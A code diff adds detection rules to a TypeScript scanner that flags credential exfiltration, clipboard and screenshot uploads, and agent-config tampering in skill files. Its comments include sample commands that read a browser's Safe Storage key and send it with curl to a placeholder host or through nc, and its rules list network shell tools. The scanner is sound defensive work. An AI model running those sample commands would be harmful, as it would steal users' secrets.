@@ -680,6 +680,19 @@ export const TEXT_RULES: TextRule[] = [
     near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 'file', docsLines: 4 },
   },
   {
+    id: 'exfil.secret-var-send', severity: 'block', family: 'credential exfiltration',
+    message: 'keeps a secret no skill needs to send (a browser\'s Safe Storage key, an SSH private key, the agent\'s secrets) in a shell variable and puts that variable into a network command a few lines on (in its URL, a header or its body)',
+    // exfil.credential-send wants a send it can name (an upload, a POST): a GET whose query carries
+    // the secret (`curl "https://x.example/k?p=$P"`) is none, and an API key in a query string is
+    // ordinary. Here the variable is followed from the read to the request: `P=$(security
+    // find-generic-password -s "Chrome Safe Storage" -w)` then `curl …$P…` (or `echo "$P" | nc …`)
+    // within six lines. A tool's own credential (TOOL_CREDENTIAL: a keychain item of its own, a
+    // cloud token) sent to its service is not this.
+    any: ['=$(', '="$(', "='$("],
+    also: [['curl', 'wget', 'http', 'xh ', 'xhs ', 'nc ', 'ncat', 'socat', 'openssl']],
+    re: new RegExp(String.raw`\b([A-Za-z_]\w{0,30})=["']?\$\((?=[^\n)]{0,200}?${SECRET_STORE})[^\n]{0,300}(?:\n[^\n]{0,300}?){0,6}?(?:\b(?:curl|wget|https?|xhs?|ncat|nc|socat|openssl)\s[^\n]{0,300}?\$\{?\1\b|\b(?:echo|printf)\b[^\n|]{0,60}?\$\{?\1\b[^\n|]{0,60}\|\s*(?:curl|wget|ncat|nc|socat|openssl)\s)`, 'i'),
+  },
+  {
     id: 'exfil.tool-credential-send', severity: 'block', family: 'credential exfiltration',
     message: 'reads a tool\'s credentials, the shell\'s history or the agent\'s config (the user\'s provider keys) and sends data to a raw IP, a socket, a tunnel, a capture, drop or paste service, or as a packed archive, in the same file',
     any: ['.aws', 'gcloud', '.kube', '.docker', '.npmrc', '.netrc', '.git-credentials', '.pypirc', '.config/solana', 'security ', 'hosts.y', 'vault-token', '.terraform.d', 'credential fill', '/sessions', 'gh auth token', 'print-access-token', 'print-identity-token', 'get-access-token', 'configure get', '.gnupg', '.config/gh', 'sh_history', 'fish_history', 'consolehost_history', 'historysavepath', 'openclaw.json', 'clawdbot.json', 'moltbot.json'],
@@ -790,7 +803,7 @@ export const TEXT_RULES: TextRule[] = [
     // tools.allow (an agent's own too) set to `*` or `["*"]` (the text views drop a lone `*` as
     // markdown emphasis: `[""]`), and security.installPolicy (the hook that has
     // every later install reviewed) unset or disabled, by the CLI or by jq/code in a file that names the config.
-    re: /\b(?:openclaw|clawdbot|moltbot)\s+config\s+(?:set\s+["']?(?:(?:tools\.exec\.security["']?\s+["']?full|tools\.exec\.ask["']?\s+["']?off|tools\.elevated\.enabled["']?\s+["']?true|agents\.[\w.*[\]-]*sandbox\.mode["']?\s+["']?off|agents\.[\w.*[\]-]*sandbox\.workspaceAccess["']?\s+["']?rw|(?:agents\.[\w.*[\]-]*)?tools\.exec\.host["']?\s+["']?(?:gateway|node)|security\.installPolicy\.enabled["']?\s+["']?false)\b|(?:agents\.[\w.*[\]-]*)?tools\.allow["']?\s+(?:["']?\[\s*\\?["']\*?\\?["']\s*\]|["']\*?["'](?=\s|$)|\*(?![\w.])))|unset\s+["']?security(?:\.installPolicy)?["']?(?=[\s;&|\x60]|$))|(?:\bdel\(\s*\.security(?:\.installPolicy)?\s*\)|\binstallPolicy["']?\]?\s*[:=]\s*\{[^}]{0,200}?\benabled["']?\s*[:=]\s*false\b|\bpop\(\s*["']installPolicy["'])(?:(?<=(?:openclaw|clawdbot|moltbot)\.json[\s\S]{0,2000})|(?=[\s\S]{0,2000}?(?:openclaw|clawdbot|moltbot)\.json))|(?:(?:\.|\[["'])(?:security|ask)["']?\]?\s*=\s*["'](?:full|off)["']|\b(?:security|ask)["']\s*:\s*["'](?:full|off)["']|\bsandbox["']?\]?\s*[:=]\s*\{[^}]{0,200}?\bmode["']?\s*:\s*["']off["']|\belevated["']?\]?\s*[:=]\s*\{[^}]{0,200}?\benabled["']?\s*:\s*true\b)(?:(?<=(?:openclaw|clawdbot|moltbot)\.json[\s\S]{0,2000})|(?=[\s\S]{0,2000}?(?:openclaw|clawdbot|moltbot)\.json))|(?:>>?\s*["']?\S{0,80}|\bwrite\w*\s*\(\s*[^\n]{0,120}|\bopen\s*\(\s*[^\n]{0,120})exec-approvals\.json/i,
+    re: /\b(?:openclaw|clawdbot|moltbot)\s+config\s+(?:set\s+["']?(?:(?:tools\.exec\.security["']?\s+["']?full|tools\.exec\.ask["']?\s+["']?off|tools\.elevated\.enabled["']?\s+["']?true|agents\.[\w.*[\]-]*sandbox\.mode["']?\s+["']?off|agents\.[\w.*[\]-]*sandbox\.workspaceAccess["']?\s+["']?rw|(?:agents\.[\w.*[\]-]*)?tools\.exec\.host["']?\s+["']?(?:gateway|node)|security\.installPolicy\.enabled["']?\s+["']?false|gateway\.auth\.mode["']?\s+["']?none)\b|(?:agents\.[\w.*[\]-]*)?tools\.allow["']?\s+(?:["']?\[\s*\\?["']\*?\\?["']\s*\]|["']\*?["'](?=\s|$)|\*(?![\w.])))|unset\s+["']?security(?:\.installPolicy)?["']?(?=[\s;&|\x60]|$))|(?:\bdel\(\s*\.security(?:\.installPolicy)?\s*\)|\binstallPolicy["']?\]?\s*[:=]\s*\{[^}]{0,200}?\benabled["']?\s*[:=]\s*false\b|\bpop\(\s*["']installPolicy["'])(?:(?<=(?:openclaw|clawdbot|moltbot)\.json[\s\S]{0,2000})|(?=[\s\S]{0,2000}?(?:openclaw|clawdbot|moltbot)\.json))|(?:(?:\.|\[["'])(?:security|ask)["']?\]?\s*=\s*["'](?:full|off)["']|\b(?:security|ask)["']\s*:\s*["'](?:full|off)["']|\bsandbox["']?\]?\s*[:=]\s*\{[^}]{0,200}?\bmode["']?\s*:\s*["']off["']|\belevated["']?\]?\s*[:=]\s*\{[^}]{0,200}?\benabled["']?\s*:\s*true\b)(?:(?<=(?:openclaw|clawdbot|moltbot)\.json[\s\S]{0,2000})|(?=[\s\S]{0,2000}?(?:openclaw|clawdbot|moltbot)\.json))|(?:>>?\s*["']?\S{0,80}|\bwrite\w*\s*\(\s*[^\n]{0,120}|\bopen\s*\(\s*[^\n]{0,120})exec-approvals\.json/i,
   },
   {
     id: 'prompt.guard-disable', severity: 'warn', family: 'agent tampering',
@@ -1276,6 +1289,18 @@ export const TEXT_RULES: TextRule[] = [
     near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 'file', docsLines: 4 },
   },
   {
+    id: 'exfil.capture-send', severity: 'warn', family: 'credential exfiltration',
+    message: "sends what is on the user's clipboard or screen in a request (the clipboard piped or substituted into curl, wget or nc; a screenshot file uploaded within a few lines): passwords and keys are copied, screens show them (ordinary for a sharing or vision skill; check where it goes)",
+    // Warn, not block: clipboard-sharing, OCR and vision skills send exactly these to their own
+    // service. The clipboard read by pbpaste, wl-paste, xclip -o, xsel -o, Get-Clipboard or
+    // termux-clipboard-get; the screen by screencapture, scrot, grim, maim, gnome-screenshot -f or
+    // ImageMagick's `import -window root` to a file that curl or wget then uploads (`-F x=@FILE`,
+    // `-T FILE`, `--data-binary @FILE`), or to stdout piped to one.
+    any: ['pbpaste', 'wl-paste', 'xclip', 'xsel', 'get-clipboard', 'clipboard-get', 'screencapture', 'scrot', 'grim', 'maim', 'gnome-screenshot', 'import -window'],
+    also: [['curl', 'wget', 'nc ', 'ncat', 'socat']],
+    re: /\b(?:pbpaste|wl-paste|xclip\b[^\n|;&]{0,40}?\s-o(?:ut)?\b|xsel\b[^\n|;&]{0,20}?\s(?:-\w*o\w*|--output)\b|get-clipboard|termux-clipboard-get)[^\n|;&]{0,40}\|\s*(?:curl|wget|ncat|nc|socat)\s|\b(?:curl|wget)\b[^\n]{0,200}?\$\(\s*(?:pbpaste|wl-paste|xclip|xsel|termux-clipboard-get)\b|\b(?:screencapture|scrot|grim|maim|gnome-screenshot(?:\s+-\w+)*\s+-f|import\s+-window\s+root)\b(?:[^\n|;&]{0,80}?\s-[ \t]*\|\s*(?:curl|wget|ncat|nc|socat)\s|[^\n|;&]{0,80}?\s["']?(?<shot>[^\s"'|;&]{1,200}\.(?:png|jpe?g|bmp|gif|tiff?|webp))["']?(?=[\s;&|)]|$)[^\n]{0,300}?(?:\n[^\n]{0,300}?){0,3}?\b(?:curl|wget)\b[^\n]{0,200}?(?:=@|\s-T\s*|--upload-file[=\s]|--data-binary[=\s]@?|--post-file[=\s]|\s@)["']?\k<shot>(?=["'\s;&|)]|$))/i,
+  },
+  {
     id: 'phish.fake-sudo', severity: 'block', family: 'credential phishing',
     message: "imitates sudo's password prompt (a `read` that prints `[sudo] password for`, or `sudo` redefined as an alias or function that reads a password): what is typed is kept by the skill",
     any: ['sudo'],
@@ -1309,7 +1334,7 @@ export const DESCRIBABLE = new Set([
   'exec.reverse-shell', 'exfil.credential-send', 'exfil.stealer-send', 'exfil.tool-credential-send', 'exfil.endpoint', 'destructive.wipe', 'mining.crypto', 'wallet.drain',
   'payload.encoded-command', 'payload.encoded-shell', 'download.raw-ip-exec', 'download.schemeless-exec', 'phish.password-dialog', 'persist.ssh-key', 'download.temp-exec', 'exec.remote-code', 'download.lolbin', 'bypass.antivirus', 'obfuscation.eval-decode', 'unicode.hidden',
   'exec.remote-code-flow', 'exfil.env-flow', 'download.raw-ip-var-exec', 'bypass.tcc', 'exfil.markdown-image',
-  'obfuscation.reversed-code', 'obfuscation.assembled-command', 'phish.secret-request', 'exfil.wallet-key-url', 'phish.fake-sudo', 'spy.keylogger',
+  'obfuscation.reversed-code', 'obfuscation.assembled-command', 'phish.secret-request', 'exfil.wallet-key-url', 'phish.fake-sudo', 'spy.keylogger', 'exfil.secret-var-send',
 ]);
 export const DESCRIPTIVE_PROSE = /\b(?:detect\w*|alert(?:s|ing)?\s+on|watch(?:es|ing)?\s+for|catch(?:es|ing)?|flag(?:s|ged)?|block(?:s|ed|list)?|patterns?|indicators?|attack(?:s|er|ers)?|malicious|malware|dangerous|suspicious|exploit\w*|examples?|e\.g\.|never|don'?t|do not|avoid|scan(?:s|ner|ning)?|validat\w*|threats?|red flags?|forbidden|prevent\w*|deny|denied|evil|mitigat\w*|cve-\d+|injection|vulnerab\w*|risky?|unsafe|audit\w*|payloads?|severity|findings?|backdoors?|exfiltrat\w*)\b|\bu\+[0-9a-f]{4,5}\b/i;
 export const PATTERN_DEFINITION = /\bre\.compile\(|\bnew RegExp\(|\b[rR]["']|\bgrep\s+(?:-\w+\s+)*-\w*[EPe]\w*\b|\\[.bsdw]|\(\?[:i=!]|\bpatterns?\b|\bsignatures?\b|\bindicators?\b|\bdetect\w*|\brules?\b/;
